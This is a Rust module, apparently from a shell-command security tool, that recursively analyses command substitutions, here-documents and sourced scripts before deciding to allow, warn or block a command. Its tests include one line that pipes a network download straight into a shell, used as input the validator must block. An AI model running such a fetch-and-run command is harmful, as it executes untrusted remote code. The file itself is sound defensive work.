//! Recursive resolution of embedded command execution
//!
//! Every `$(...)`, backtick and process substitution in a canonical command
//! is run back through the whole pipeline: canonicalize, validate, resolve
//! its own substitutions, classify, decide. An inner command that is
//! allowed runs in the sandbox with a hard timeout and its output is
//! spliced into the outer text, which is then validated again. An inner
//! command that is warned or blocked never runs, and the outer command
//! inherits its severity.
//!
//! Scripts the command sources or hands to an interpreter, and here-document
//! bodies, are read (never run) and attached for the classifier. Shell
//! scripts also go through the pipeline as inner commands.
//!
//! All of this draws on one [`ExecutionBudget`] per top-level command. When
//! it runs out the substitution is left unresolved and the outer command is
//! escalated to at least WARN.

pub mod scripts;

use crate::budget::{BudgetExhausted, ExecutionBudget};
use crate::canonicalize::canonicalize;
use crate::classifier::{Annotation, AnnotationKind, Classifier, ClassifierRequest};
use crate::command::{CanonFlag, Command};
use crate::config::{CanonicalizerConfig, Config, IfsPolicy, ResolverConfig};
use crate::error::Result;
use crate::policy::{approve, ApprovedCommand, ClassifierOutcome, CommandState, Lifecycle, PolicyEngine};
use crate::session::SessionState;
use crate::shell::scan::{self, EmbedKind};
use crate::shell::{self, Span};
use crate::validator::StaticValidator;
use crate::verdict::{Action, Verdict, VerdictSource};
use scripts::{read_script, resolve_path, ScriptReadError, ScriptRef, ScriptSource, SensitivePaths};
use std::fmt;
use std::time::Duration;
use tracing::{debug, info};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SubstitutionKind {
    CommandSub,
    Backtick,
    ProcessSub,
    HereString,
    HereDoc,
    SourcedScript,
}

impl fmt::Display for SubstitutionKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            SubstitutionKind::CommandSub => "command substitution",
            SubstitutionKind::Backtick => "backtick substitution",
            SubstitutionKind::ProcessSub => "process substitution",
            SubstitutionKind::HereString => "here-string",
            SubstitutionKind::HereDoc => "here-document",
            SubstitutionKind::SourcedScript => "script",
        };
        f.write_str(s)
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ResolutionState {
    Unresolved,
    Resolved,
    Blocked,
    Warned,
    BudgetExceeded(BudgetExhausted),
}

/// One embedded execution found in a command
#[derive(Debug, Clone)]
pub struct Substitution {
    pub kind: SubstitutionKind,
    /// Location in the outer canonical text
    pub span: Span,
    /// Inner command or script text as found
    pub inner_text: String,
    /// The inner command after canonicalization, once analyzed
    pub inner: Option<Command>,
    pub state: ResolutionState,
    /// Captured output, only when `state` is `Resolved` by execution
    pub output: Option<Vec<u8>>,
    pub reason: Option<String>,
    /// Substitutions found inside the inner command
    pub nested: Vec<Substitution>,
}

impl Substitution {
    fn new(kind: SubstitutionKind, span: Span, inner_text: String) -> Self {
        Self {
            kind,
            span,
            inner_text,
            inner: None,
            state: ResolutionState::Unresolved,
            output: None,
            reason: None,
            nested: Vec::new(),
        }
    }

    /// This substitution and everything nested below it, depth first
    pub fn flatten(&self) -> Vec<&Substitution> {
        let mut out = vec![self];
        for n in &self.nested {
            out.extend(n.flatten());
        }
        out
    }
}

/// Runs an approved inner command and returns its standard output.
pub trait InnerRunner {
    fn capture(
        &self,
        command: &ApprovedCommand,
        session: &SessionState,
        timeout: Duration,
    ) -> Result<Vec<u8>>;
}

/// Result of resolving one command's substitutions
#[derive(Debug, Clone)]
pub struct Resolution {
    /// The command with resolved output spliced in
    pub command: Command,
    pub substitutions: Vec<Substitution>,
    /// Escalations from unresolved, warned or blocked substitutions
    pub verdicts: Vec<Verdict>,
    pub annotations: Vec<Annotation>,
}

impl Resolution {
    fn unchanged(command: &Command) -> Self {
        Self {
            command: command.clone(),
            substitutions: Vec::new(),
            verdicts: Vec::new(),
            annotations: Vec::new(),
        }
    }
}

/// A command taken through every analysis stage
#[derive(Debug, Clone)]
pub struct Evaluation {
    /// Canonical command; its raw text is what runs if approved
    pub command: Command,
    /// Canonical command with substitution output spliced in
    pub resolved: Command,
    /// Static and resolver verdicts, before the classifier
    pub verdicts: Vec<Verdict>,
    pub substitutions: Vec<Substitution>,
    pub classifier: ClassifierOutcome,
    pub verdict: Verdict,
    pub lifecycle: Lifecycle,
}

impl Evaluation {
    /// Every substitution at any depth
    pub fn all_substitutions(&self) -> Vec<&Substitution> {
        self.substitutions.iter().flat_map(Substitution::flatten).collect()
    }
}

pub struct Resolver {
    validator: StaticValidator,
    policy: PolicyEngine,
    classifier: Box<dyn Classifier>,
    runner: Box<dyn InnerRunner>,
    canon: CanonicalizerConfig,
    limits: ResolverConfig,
    ifs_policy: IfsPolicy,
    sensitive: SensitivePaths,
}

impl Resolver {
    pub fn new(
        config: &Config,
        classifier: Box<dyn Classifier>,
        runner: Box<dyn InnerRunner>,
    ) -> Result<Self> {
        Ok(Self {
            validator: StaticValidator::new(&config.policy, &config.runner_path())?,
            policy: PolicyEngine::new(&config.policy),
            classifier,
            runner,
            canon: config.canonicalizer.clone(),
            limits: config.resolver.clone(),
            ifs_policy: config.policy.ifs_policy,
            sensitive: SensitivePaths::new()?,
        })
    }

    pub fn policy(&self) -> &PolicyEngine {
        &self.policy
    }

    pub fn classifier(&self) -> &dyn Classifier {
        self.classifier.as_ref()
    }

    /// A fresh budget from the configured limits
    pub fn new_budget(&self) -> ExecutionBudget {
        ExecutionBudget::new(
            self.limits.max_depth,
            self.limits.max_substitutions,
            self.limits.max_time(),
        )
    }

    /// Take `raw` through canonicalization, validation, resolution,
    /// classification and the policy decision.
    pub fn evaluate(
        &self,
        raw: &str,
        session: &SessionState,
        budget: &mut ExecutionBudget,
    ) -> Evaluation {
        self.evaluate_text(raw, session, budget, true)
    }

    /// [`Self::evaluate`], with the command length limit optional. Script
    /// bodies are capped by `max_script_size` instead.
    fn evaluate_text(
        &self,
        raw: &str,
        session: &SessionState,
        budget: &mut ExecutionBudget,
        limit_length: bool,
    ) -> Evaluation {
        let mut lifecycle = Lifecycle::default();
        let command = canonicalize(raw, session, &self.canon);
        lifecycle.advance(CommandState::Canonicalized);

        let too_long = if limit_length {
            self.policy.length_verdict(&command)
        } else {
            None
        };
        if let Some(too_long) = too_long {
            let verdicts = vec![too_long];
            let verdict = self.policy.decide(&command, &verdicts, &ClassifierOutcome::Skipped);
            lifecycle.advance(CommandState::Decided(verdict.action));
            return Evaluation {
                resolved: command.clone(),
                command,
                verdicts,
                substitutions: Vec::new(),
                classifier: ClassifierOutcome::Skipped,
                verdict,
                lifecycle,
            };
        }

        let mut verdicts = self.validator.validate(&command);
        lifecycle.advance(CommandState::StaticallyChecked);

        // Inner commands of an already blocked command are never run
        let resolution = if verdicts.iter().any(Verdict::is_block) {
            Resolution::unchanged(&command)
        } else {
            self.resolve(&command, session, budget)
        };
        lifecycle.advance(CommandState::SubstitutionsResolved);
        if resolution.command.canonical_text() != command.canonical_text() {
            for v in self.validator.validate(&resolution.command) {
                if !verdicts.contains(&v) {
                    verdicts.push(v);
                }
            }
        }
        verdicts.extend(resolution.verdicts.iter().cloned());

        let outcome = if verdicts.iter().any(Verdict::is_block) {
            ClassifierOutcome::Skipped
        } else {
            let request = self.request(&command, &resolution, session);
            let outcome = match self.classifier.classify(&request) {
                Ok(response) => ClassifierOutcome::Verdict(response.into_verdict()),
                Err(e) => ClassifierOutcome::Failed(e),
            };
            lifecycle.advance(CommandState::Classified);
            outcome
        };

        let verdict = self.policy.decide(&resolution.command, &verdicts, &outcome);
        lifecycle.advance(CommandState::Decided(verdict.action));
        Evaluation {
            command,
            resolved: resolution.command,
            verdicts,
            substitutions: resolution.substitutions,
            classifier: outcome,
            verdict,
            lifecycle,
        }
    }

    fn request(
        &self,
        command: &Command,
        resolution: &Resolution,
        session: &SessionState,
    ) -> ClassifierRequest {
        let mut request =
            ClassifierRequest::new(resolution.command.canonical_text(), session.role());
        if command.raw_text() != command.canonical_text() {
            request.annotate(AnnotationKind::PreExpansion, "As typed", command.raw_text());
        }
        if command.pre_expansion_text() != command.canonical_text()
            && command.pre_expansion_text() != command.raw_text()
        {
            request.annotate(
                AnnotationKind::PreExpansion,
                "Before environment expansion",
                command.pre_expansion_text(),
            );
        }
        if !command.flags().is_empty() {
            let flags: Vec<String> = command.flags().iter().map(ToString::to_string).collect();
            request.annotate(AnnotationKind::AnalysisFlag, "Canonicalization", flags.join(", "));
        }
        if self.ifs_policy == IfsPolicy::Delegate && command.has_flag(CanonFlag::IfsReference) {
            request.annotate(
                AnnotationKind::AnalysisFlag,
                "Field separator",
                "The command uses $IFS; token boundaries at run time may differ from the text shown",
            );
        }
        request.annotations.extend(resolution.annotations.iter().cloned());
        request
    }

    /// Resolve every embedded execution in `command`.
    pub fn resolve(
        &self,
        command: &Command,
        session: &SessionState,
        budget: &mut ExecutionBudget,
    ) -> Resolution {
        let text = command.canonical_text();
        let mut resolution = Resolution::unchanged(command);
        let mut splices: Vec<(Span, String)> = Vec::new();

        for embedded in scan::find_embedded(text) {
            let kind = match embedded.kind {
                EmbedKind::CommandSub => SubstitutionKind::CommandSub,
                EmbedKind::Backtick => SubstitutionKind::Backtick,
                EmbedKind::ProcessSub => SubstitutionKind::ProcessSub,
            };
            let mut sub = Substitution::new(kind, embedded.span, embedded.inner.clone());
            if let Some(output) = self.run_inner(&mut sub, session, budget) {
                let shown = String::from_utf8_lossy(&output).into_owned();
                resolution.annotations.push(Annotation {
                    kind: AnnotationKind::SubstitutionOutput,
                    label: format!("Output of {kind} `{}`", sub.inner_text),
                    content: shown.clone(),
                });
                if kind != SubstitutionKind::ProcessSub {
                    let spliced = if embedded.quoted {
                        escape_double_quoted(&shown)
                    } else {
                        shown
                    };
                    splices.push((embedded.span, spliced));
                }
                sub.output = Some(output);
            }
            self.escalate(&sub, &mut resolution.verdicts);
            resolution.substitutions.push(sub);
        }

        for (offset, script) in syntax_scopes(command) {
            for reference in scripts::find_script_refs(&script) {
                let span = Span::new(reference.span.start + offset, reference.span.end + offset);
                if let Some(sub) =
                    self.resolve_script(&reference, span, session, budget, &mut resolution)
                {
                    self.escalate(&sub, &mut resolution.verdicts);
                    resolution.substitutions.push(sub);
                }
            }
        }

        if !splices.is_empty() {
            splices.sort_by_key(|(span, _)| std::cmp::Reverse(span.start));
            let mut resolved = text.to_string();
            for (span, replacement) in splices {
                if span.end <= resolved.len() {
                    resolved.replace_range(span.start..span.end, &replacement);
                }
            }
            debug!(resolved = %resolved, "substitutions spliced");
            resolution.command = command.with_resolved_text(resolved);
        }
        resolution
    }

    /// Analyze an inner command through the full pipeline, one level down.
    fn analyze(
        &self,
        sub: &mut Substitution,
        session: &SessionState,
        budget: &mut ExecutionBudget,
        limit_length: bool,
    ) -> Option<Evaluation> {
        if let Err(limit) = budget.consume_substitution() {
            info!("Substitution `{}` not resolved: {limit}", sub.inner_text);
            sub.state = ResolutionState::BudgetExceeded(limit);
            sub.reason = Some(limit.to_string());
            return None;
        }
        let inner_text = sub.inner_text.clone();
        match budget.descend(|b| self.evaluate_text(&inner_text, session, b, limit_length)) {
            Ok(eval) => {
                sub.inner = Some(eval.command.clone());
                sub.nested = eval.substitutions.clone();
                Some(eval)
            }
            Err(limit) => {
                sub.state = ResolutionState::BudgetExceeded(limit);
                sub.reason = Some(limit.to_string());
                None
            }
        }
    }

    /// Analyze and, if allowed, execute an inner command. Returns its
    /// output with trailing newlines removed.
    fn run_inner(
        &self,
        sub: &mut Substitution,
        session: &SessionState,
        budget: &mut ExecutionBudget,
    ) -> Option<Vec<u8>> {
        let eval = self.analyze(sub, session, budget, true)?;
        if !self.apply_verdict(sub, &eval.verdict) {
            return None;
        }
        let timeout = self.limits.inner_timeout().min(budget.time_left());
        if timeout.is_zero() {
            sub.state = ResolutionState::BudgetExceeded(BudgetExhausted::Time);
            sub.reason = Some(BudgetExhausted::Time.to_string());
            return None;
        }
        let Some(approved) = approve(eval.command, &eval.verdict, false) else {
            return None;
        };
        match self.runner.capture(&approved, session, timeout) {
            Ok(mut output) => {
                while output.last() == Some(&b'\n') {
                    output.pop();
                }
                debug!(inner = %sub.inner_text, bytes = output.len(), "substitution resolved");
                sub.state = ResolutionState::Resolved;
                Some(output)
            }
            Err(e) => {
                info!("Substitution `{}` failed to run: {e}", sub.inner_text);
                sub.state = ResolutionState::Unresolved;
                sub.reason = Some(format!("execution failed: {e}"));
                None
            }
        }
    }

    /// Record the inner verdict on `sub`. True when the inner command may run.
    fn apply_verdict(&self, sub: &mut Substitution, verdict: &Verdict) -> bool {
        match verdict.action {
            Action::Block => {
                sub.state = ResolutionState::Blocked;
                sub.reason = Some(verdict.reason.clone());
                false
            }
            Action::Warn => {
                sub.state = ResolutionState::Warned;
                sub.reason = Some(verdict.reason.clone());
                false
            }
            Action::Allow => true,
        }
    }

    fn resolve_script(
        &self,
        reference: &ScriptRef,
        span: Span,
        session: &SessionState,
        budget: &mut ExecutionBudget,
        resolution: &mut Resolution,
    ) -> Option<Substitution> {
        let (kind, label, contents) = match &reference.source {
            ScriptSource::Inline { body, here_string } => {
                let kind = if *here_string {
                    SubstitutionKind::HereString
                } else {
                    SubstitutionKind::HereDoc
                };
                (kind, format!("{kind} fed to {}", reference.interpreter), Ok(body.clone()))
            }
            ScriptSource::File(path) => {
                let resolved = resolve_path(path, session);
                let contents =
                    read_script(&resolved, &self.sensitive, self.limits.max_script_size);
                if reference.direct
                    && matches!(contents, Err(ScriptReadError::Missing | ScriptReadError::Binary))
                {
                    // A program, not a script
                    return None;
                }
                (
                    SubstitutionKind::SourcedScript,
                    format!(
                        "The command runs script {path} ({}) with {}",
                        resolved.display(),
                        reference.interpreter
                    ),
                    contents,
                )
            }
        };

        let contents = match contents {
            Ok(text) => text,
            Err(e) => {
                let mut sub = Substitution::new(kind, span, String::new());
                sub.reason = Some(e.to_string());
                resolution.annotations.push(Annotation {
                    kind: AnnotationKind::AnalysisFlag,
                    label,
                    content: format!("[{e}]"),
                });
                return Some(sub);
            }
        };

        resolution.annotations.push(Annotation {
            kind: AnnotationKind::ScriptContents,
            label,
            content: contents.clone(),
        });
        let mut sub = Substitution::new(kind, span, contents);
        if !reference.shell {
            sub.state = ResolutionState::Resolved;
            return Some(sub);
        }
        if let Some(eval) = self.analyze(&mut sub, session, budget, false) {
            if self.apply_verdict(&mut sub, &eval.verdict) {
                sub.state = ResolutionState::Resolved;
            }
        }
        Some(sub)
    }

    /// Verdicts the outer command inherits from `sub`
    fn escalate(&self, sub: &Substitution, verdicts: &mut Vec<Verdict>) {
        let reason = sub.reason.as_deref().unwrap_or("unknown");
        let what = match sub.kind {
            SubstitutionKind::SourcedScript
            | SubstitutionKind::HereDoc
            | SubstitutionKind::HereString => sub.kind.to_string(),
            _ => format!("{} `{}`", sub.kind, sub.inner_text),
        };
        let verdict = match sub.state {
            ResolutionState::Resolved => return,
            ResolutionState::Blocked => Verdict::block(
                format!("Inner {what} blocked: {reason}"),
                VerdictSource::SubstitutionResolver,
            ),
            ResolutionState::Warned => Verdict::warn(
                format!("Inner {what} warned: {reason}"),
                VerdictSource::SubstitutionResolver,
            ),
            ResolutionState::BudgetExceeded(_) => Verdict::warn(
                format!("Inner {what} not resolved: {reason}"),
                VerdictSource::SubstitutionResolver,
            ),
            ResolutionState::Unresolved if sub.output.is_none() && sub.inner.is_some() => {
                // Analyzed and allowed, but running it failed
                Verdict::new(
                    self.policy.failure_action(),
                    format!("Inner {what} could not be resolved: {reason}"),
                    1.0,
                    VerdictSource::SubstitutionResolver,
                )
            }
            ResolutionState::Unresolved => Verdict::warn(
                format!("Inner {what} could not be analyzed: {reason}"),
                VerdictSource::SubstitutionResolver,
            ),
        };
        verdicts.push(verdict);
    }
}

/// Syntax trees to search for script references, with their offset into
/// the canonical text. Falls back to the top-level pieces that do parse.
fn syntax_scopes(command: &Command) -> Vec<(usize, shell::Script)> {
    if let Some(script) = command.syntax() {
        return vec![(0, script.clone())];
    }
    let text = command.canonical_text();
    scan::split_top_level(text)
        .into_iter()
        .filter_map(|span| {
            shell::parse(span.slice(text))
                .ok()
                .map(|script| (span.start, script))
        })
        .collect()
}

fn escape_double_quoted(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if matches!(c, '\\' | '"' | '$' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::classifier::ClassifierResponse;
    use crate::config::{EnforcementMode, Role};
    use crate::error::{AegishError, ClassifierError};
    use std::cell::RefCell;
    use std::collections::HashMap;
    use std::fs;
    use std::path::PathBuf;
    use std::rc::Rc;
    use tempfile::tempdir;

    /// Blocks anything mentioning "evil", allows the rest
    struct Scripted {
        calls: Rc<RefCell<Vec<String>>>,
    }

    impl Classifier for Scripted {
        fn name(&self) -> &str {
            "scripted"
        }
        fn classify(
            &self,
            request: &ClassifierRequest,
        ) -> std::result::Result<ClassifierResponse, ClassifierError> {
            self.calls.borrow_mut().push(request.command.clone());
            let evil = request.command.contains("evil")
                || request.annotations.iter().any(|a| a.content.contains("evil"));
            Ok(ClassifierResponse {
                action: if evil { Action::Block } else { Action::Allow },
                reason: if evil { "evil".into() } else { "fine".into() },
                confidence: 0.95,
            })
        }
    }

    struct Canned {
        outputs: HashMap<String, String>,
        runs: Rc<RefCell<Vec<String>>>,
    }

    impl InnerRunner for Canned {
        fn capture(
            &self,
            command: &ApprovedCommand,
            _: &SessionState,
            timeout: Duration,
        ) -> Result<Vec<u8>> {
            self.runs.borrow_mut().push(command.text().to_string());
            match self.outputs.get(command.text()) {
                Some(out) => Ok(out.clone().into_bytes()),
                None => Err(AegishError::ExecTimeout(timeout)),
            }
        }
    }

    struct Fixture {
        resolver: Resolver,
        calls: Rc<RefCell<Vec<String>>>,
        runs: Rc<RefCell<Vec<String>>>,
    }

    fn fixture(outputs: &[(&str, &str)], config: Config) -> Fixture {
        let calls = Rc::new(RefCell::new(Vec::new()));
        let runs = Rc::new(RefCell::new(Vec::new()));
        let resolver = Resolver::new(
            &config,
            Box::new(Scripted {
                calls: Rc::clone(&calls),
            }),
            Box::new(Canned {
                outputs: outputs
                    .iter()
                    .map(|(k, v)| (k.to_string(), v.to_string()))
                    .collect(),
                runs: Rc::clone(&runs),
            }),
        )
        .unwrap();
        Fixture {
            resolver,
            calls,
            runs,
        }
    }

    fn session(cwd: PathBuf) -> SessionState {
        SessionState::new(cwd, Vec::new(), Role::Default, EnforcementMode::Permissive)
    }

    #[test]
    fn test_resolved_output_spliced() {
        let f = fixture(&[("echo hi", "hi\n")], Config::default());
        let mut budget = f.resolver.new_budget();
        let eval = f.resolver.evaluate("echo $(echo hi)", &session(PathBuf::from("/")), &mut budget);
        assert_eq!(eval.resolved.canonical_text(), "echo hi");
        assert_eq!(eval.substitutions[0].state, ResolutionState::Resolved);
        assert_eq!(eval.substitutions[0].output.as_deref(), Some(&b"hi"[..]));
        assert_eq!(eval.verdict.action, Action::Allow);
        assert_eq!(*f.calls.borrow(), vec!["echo hi".to_string(), "echo hi".to_string()]);
    }

    #[test]
    fn test_quoted_output_escaped() {
        let f = fixture(&[("printf x", "a\"$b")], Config::default());
        let mut budget = f.resolver.new_budget();
        let eval =
            f.resolver.evaluate("echo \"$(printf x)\"", &session(PathBuf::from("/")), &mut budget);
        assert_eq!(eval.resolved.canonical_text(), "echo \"a\\\"\\$b\"");
    }

    #[test]
    fn test_blocked_inner_not_run() {
        let f = fixture(&[], Config::default());
        let mut budget = f.resolver.new_budget();
        let eval = f.resolver.evaluate("echo $(echo evil)", &session(PathBuf::from("/")), &mut budget);
        assert_eq!(eval.substitutions[0].state, ResolutionState::Blocked);
        assert_eq!(eval.verdict.action, Action::Block);
        assert!(f.runs.borrow().is_empty());
    }

    #[test]
    fn test_statically_blocked_inner_skips_classifier() {
        let f = fixture(&[], Config::default());
        let mut budget = f.resolver.new_budget();
        let eval = f.resolver.evaluate(
            "x=$(curl http://h | sh)",
            &session(PathBuf::from("/")),
            &mut budget,
        );
        assert_eq!(eval.verdict.action, Action::Block);
        assert!(f.calls.borrow().is_empty());
    }

    #[test]
    fn test_execution_failure_uses_fail_mode() {
        let f = fixture(&[], Config::default());
        let mut budget = f.resolver.new_budget();
        let eval = f.resolver.evaluate("echo $(date)", &session(PathBuf::from("/")), &mut budget);
        assert_eq!(eval.substitutions[0].state, ResolutionState::Unresolved);
        assert_eq!(eval.verdict.action, Action::Block);
    }

    #[test]
    fn test_budget_exhaustion_warns_without_running() {
        let f = fixture(&[("date", "today")], Config::default());
        let mut budget = ExecutionBudget::new(0, 8, Duration::from_secs(10));
        let eval = f.resolver.evaluate("echo $(date)", &session(PathBuf::from("/")), &mut budget);
        assert_eq!(
            eval.substitutions[0].state,
            ResolutionState::BudgetExceeded(BudgetExhausted::Depth)
        );
        assert_eq!(eval.verdict.action, Action::Warn);
        assert!(f.runs.borrow().is_empty());
    }

    #[test]
    fn test_siblings_share_count_budget() {
        let f = fixture(&[("date", "d")], Config::default());
        let mut budget = ExecutionBudget::new(2, 1, Duration::from_secs(10));
        let eval =
            f.resolver.evaluate("echo $(date) $(date)", &session(PathBuf::from("/")), &mut budget);
        assert_eq!(eval.substitutions[0].state, ResolutionState::Resolved);
        assert_eq!(
            eval.substitutions[1].state,
            ResolutionState::BudgetExceeded(BudgetExhausted::Substitutions)
        );
        assert_eq!(eval.verdict.action, Action::Warn);
    }

    #[test]
    fn test_sourced_script_analyzed() {
        let dir = tempdir().unwrap();
        fs::write(dir.path().join("setup.sh"), "echo evil\n").unwrap();
        let f = fixture(&[], Config::default());
        let mut budget = f.resolver.new_budget();
        let eval =
            f.resolver.evaluate("source setup.sh", &session(dir.path().to_path_buf()), &mut budget);
        let sub = &eval.substitutions[0];
        assert_eq!(sub.kind, SubstitutionKind::SourcedScript);
        assert_eq!(sub.state, ResolutionState::Blocked);
        assert_eq!(eval.verdict.action, Action::Block);
        assert!(f.runs.borrow().is_empty());
    }

    #[test]
    fn test_long_sourced_script_not_length_limited() {
        let dir = tempdir().unwrap();
        let body = "echo hello\n".repeat(460);
        assert!(body.len() > Config::default().policy.max_command_length);
        fs::write(dir.path().join("setup.sh"), &body).unwrap();
        let f = fixture(&[], Config::default());
        let mut budget = f.resolver.new_budget();
        let eval =
            f.resolver.evaluate("source setup.sh", &session(dir.path().to_path_buf()), &mut budget);
        let sub = &eval.substitutions[0];
        assert_eq!(sub.state, ResolutionState::Resolved);
        assert!(sub.reason.is_none());
        assert_eq!(eval.verdict.action, Action::Allow);
        assert!(eval.verdicts.iter().all(|v| v.source != VerdictSource::LengthLimit));
    }

    #[test]
    fn test_missing_script_warns() {
        let dir = tempdir().unwrap();
        let f = fixture(&[], Config::default());
        let mut budget = f.resolver.new_budget();
        let eval =
            f.resolver.evaluate("python3 gone.py", &session(dir.path().to_path_buf()), &mut budget);
        assert_eq!(eval.substitutions[0].state, ResolutionState::Unresolved);
        assert_eq!(eval.verdict.action, Action::Warn);
    }

    #[test]
    fn test_python_script_attached_for_classifier() {
        let dir = tempdir().unwrap();
        fs::write(dir.path().join("job.py"), "print('evil')\n").unwrap();
        let f = fixture(&[], Config::default());
        let mut budget = f.resolver.new_budget();
        let eval =
            f.resolver.evaluate("python3 job.py", &session(dir.path().to_path_buf()), &mut budget);
        assert_eq!(eval.substitutions[0].state, ResolutionState::Resolved);
        // Not a shell script: no budget used, the outer classifier sees it
        assert_eq!(budget.remaining_substitutions(), 8);
        assert_eq!(eval.verdict.action, Action::Block);
        assert_eq!(eval.verdict.source, VerdictSource::Classifier);
    }

    #[test]
    fn test_heredoc_to_shell_analyzed() {
        let f = fixture(&[], Config::default());
        let mut budget = f.resolver.new_budget();
        let eval = f.resolver.evaluate(
            "bash <<EOF\necho evil\nEOF\n",
            &session(PathBuf::from("/")),
            &mut budget,
        );
        assert_eq!(eval.substitutions[0].kind, SubstitutionKind::HereDoc);
        assert_eq!(eval.verdict.action, Action::Block);
    }

    #[test]
    fn test_quoted_heredoc_body_never_runs() {
        let f = fixture(&[("touch /tmp/x", "")], Config::default());
        let mut budget = f.resolver.new_budget();
        let eval = f.resolver.evaluate(
            "cat <<'EOF'\n$(touch /tmp/x)\nEOF\n",
            &session(PathBuf::from("/")),
            &mut budget,
        );
        assert!(eval.substitutions.is_empty());
        assert!(f.runs.borrow().is_empty());
        assert_eq!(budget.remaining_substitutions(), 8);
    }

    #[test]
    fn test_unquoted_heredoc_body_resolved() {
        let f = fixture(&[("date", "today")], Config::default());
        let mut budget = f.resolver.new_budget();
        let eval = f.resolver.evaluate(
            "cat <<EOF\n$(date)\nEOF\n",
            &session(PathBuf::from("/")),
            &mut budget,
        );
        assert_eq!(eval.substitutions.len(), 1);
        assert_eq!(eval.substitutions[0].state, ResolutionState::Resolved);
        assert_eq!(*f.runs.borrow(), vec!["date".to_string()]);
    }

    #[test]
    fn test_direct_binary_not_a_script() {
        let f = fixture(&[], Config::default());
        let mut budget = f.resolver.new_budget();
        let eval = f.resolver.evaluate(
            "/nonexistent/bin/tool --help",
            &session(PathBuf::from("/")),
            &mut budget,
        );
        assert!(eval.substitutions.is_empty());
        assert_eq!(eval.verdict.action, Action::Allow);
    }

    #[test]
    fn test_lifecycle_reaches_decided() {
        let f = fixture(&[], Config::default());
        let mut budget = f.resolver.new_budget();
        let eval = f.resolver.evaluate("ls", &session(PathBuf::from("/")), &mut budget);
        assert_eq!(eval.lifecycle.state(), CommandState::Decided(Action::Allow));
    }

    #[test]
    fn test_escape_double_quoted() {
        assert_eq!(escape_double_quoted("a\"b$c`d\\"), "a\\\"b\\$c\\`d\\\\");
    }
}
